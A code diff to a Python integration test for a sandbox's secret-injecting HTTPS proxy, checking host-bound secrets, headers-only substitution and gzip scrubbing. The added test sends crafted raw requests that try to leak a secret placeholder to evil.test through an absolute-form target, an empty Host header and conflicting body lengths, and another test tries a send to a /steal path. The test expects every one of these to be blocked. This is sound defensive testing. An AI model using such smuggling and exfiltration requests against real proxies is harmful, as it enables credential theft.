@@ -26,7 +26,7 @@ from actors.sandboxes import secrets as live
 from actors.sandboxes.sandbox import Sandbox
 from actors.secrets.model import PLACEHOLDER_PREFIX, SecretRef
 from images.build import Image
-from supervisor.client import AsyncSandbox, Secret
+from supervisor.client import AsyncSandbox, PermissionDenied, Secret
 from supervisor.throwaway import supervisor, workdir
 from tests.httpslab import HttpsServer, https_server
 from tests.netlab import POOL, UPLINK_HOST, UPLINK_INET, link_internet, namespaces
@@ -40,6 +40,33 @@ URLLIB = """
 import os, sys, urllib.request
 req = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
 print(urllib.request.urlopen(req, timeout=30).read().decode().strip())
+"""
+
+# crafted requests on an intercepted connection (the guest's Python, raw over TLS):
+# each must come back 400 from the proxy and never reach the server
+CRAFTED = r"""
+import os, socket, ssl
+ph = os.environ["TOKEN"]
+cases = {
+    "absolute-form": f"GET https://evil.test/c?k={ph} HTTP/1.1\r\nHost: api.test\r\n\r\n",
+    "empty-host": f"GET /empty-host HTTP/1.1\r\nHost:\r\nAuthorization: Bearer {ph}\r\n\r\n",
+    "both-lengths": f"POST /both-lengths HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {ph}\r\n"
+    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+}
+ctx = ssl.create_default_context()
+for name, text in cases.items():
+    s = ctx.wrap_socket(socket.create_connection(("api.test", 443), timeout=30), server_hostname="api.test")
+    s.sendall(text.encode())
+    out = b""
+    while True:
+        try:
+            data = s.recv(65536)
+        except OSError:
+            break
+        if not data:
+            break
+        out += data
+    print(name, out.split(b"\r\n", 1)[0].decode())
 """
 
 
@@ -180,18 +207,25 @@ async def cli(work: Any, *args: str, stdin: bytes = b"") -> str:
 async def create_through_the_edges(reg: Registry, work: Any) -> Sandbox:
     """The store's entry by the CLI (value on stdin), the sandbox by the SDK (an ``env:``
     source read from this process's environment, a ``store:`` one), read back by the CLI."""
-    await cli(work, "secret", "set", "other_key", stdin=OTHER_VALUE + b"\n")
+    await cli(work, "secret", "set", "other_key", "--hosts", "other.test,*.other.test", stdin=OTHER_VALUE + b"\n")
     assert (await cli(work, "secret", "ls")).split() == ["other_key"]
+    # the entry's hosts bound every Create that names it: widening them is refused
+    for wide in ("api.test", "other.test,x.api.test", "other.test:8443"):
+        with pytest.raises(PermissionDenied, match="not within the hosts of the store entry"):
+            await AsyncSandbox.create("w", socket=work.socket, network="tap", secrets=[f"W=store:other_key@{wide}"])
     os.environ["SV_TEST_TOKEN"] = VALUE.decode()
-    try:
-        secrets = ["TOKEN=env:SV_TEST_TOKEN@api.test", Secret(name="OTHER", store="other_key", hosts="other.test")]
+    try:  # TOKEN is put in the URL and body too; OTHER (narrowing its entry's hosts) in headers only
+        secrets = [
+            "TOKEN=env:SV_TEST_TOKEN@api.test;substitute=all",
+            Secret(name="OTHER", store="other_key", hosts="other.test"),
+        ]
         box = await AsyncSandbox.create("s", socket=work.socket, network="tap", secrets=secrets, detached=True)
     finally:
         del os.environ["SV_TEST_TOKEN"]
     listed = json.loads(await cli(work, "secret", "ls", "--sandbox", box.id, "--json"))
-    assert [(x["name"], x["source"], x["hosts"]) for x in listed] == [
-        ("TOKEN", "value", ["api.test"]),
-        ("OTHER", "store:other_key", ["other.test"]),
+    assert [(x["name"], x["source"], x["hosts"], x["substitute"]) for x in listed] == [
+        ("TOKEN", "value", ["api.test"], "all"),
+        ("OTHER", "store:other_key", ["other.test"], "headers"),
     ]
     out = json.dumps(listed) + json.dumps(await box.inspect(), default=str)
     assert VALUE.decode() not in out and OTHER_VALUE.decode() not in out
@@ -225,11 +259,33 @@ async def checks_on_a_running_sandbox(reg: Registry, sb: Sandbox, server: HttpsS
     (form,) = [s for s in server.to("api.test") if s.target == "/form"]
     assert form.body == b"token=" + VALUE + b"&x=1" and form.headers["content-length"] == str(len(form.body))
 
+    # a secret substituted in headers only: its placeholder goes as it is in the body
+    _, out = await run(
+        sb, "sh", "-c", 'curl -sS --max-time 30 -H "X-Key: $OTHER" -d "k=$OTHER" https://other.test/headers-only'
+    )
+    (only,) = [s for s in server.to("other.test") if s.target == "/headers-only"]
+    assert (
+        only.headers["x-key"] == OTHER_VALUE.decode() and OTHER_VALUE not in only.body and b"k=SANDVISOR" in only.body
+    )
+
+    # held to the SNI: an absolute-form target, an empty Host, both body lengths: 400 here, nothing there
+    await sb.guest_call(lambda g: g.channel.write_file("/tmp/crafted.py", CRAFTED.encode()))
+    _, out = await run(sb, "python3", "/tmp/crafted.py")
+    assert out.splitlines() == [
+        f"{case} HTTP/1.1 400 Bad Request" for case in ("absolute-form", "empty-host", "both-lengths")
+    ], out
+    assert not [s for s in server.seen if "evil.test" in s.target or s.target in ("/empty-host", "/both-lengths")]
+    # an allowed host that echoes the value gzip'd (asked for identity or not): inflated, scrubbed
+    _, out = await run(sb, *curl("https://api.test/echo-gz", "--compressed"))
+    assert out.strip() == f"you sent: Bearer {placeholder}", out
+    (gz,) = [s for s in server.to("api.test") if s.target == "/echo-gz"]
+    assert gz.headers["accept-encoding"] == "identity" and gz.headers["authorization"] == "Bearer " + VALUE.decode()
+
     # the placeholder to a host its secret does not allow: 403 here, nothing there, an event
     sub = reg.events.subscribe("s", Action.SECRET_BLOCKED)
     code, out = await run(sb, *curl("https://other.test/steal", "-w", "'%{http_code}'"), ok=False)
     assert out.endswith("403") and "secret TOKEN may not be sent to other.test" in out, out
-    assert server.to("other.test") == []
+    assert [s for s in server.to("other.test") if s.target == "/steal"] == []
     with trio.fail_after(10):
         ev = await sub.receive.receive()
     reg.events.unsubscribe(sub)
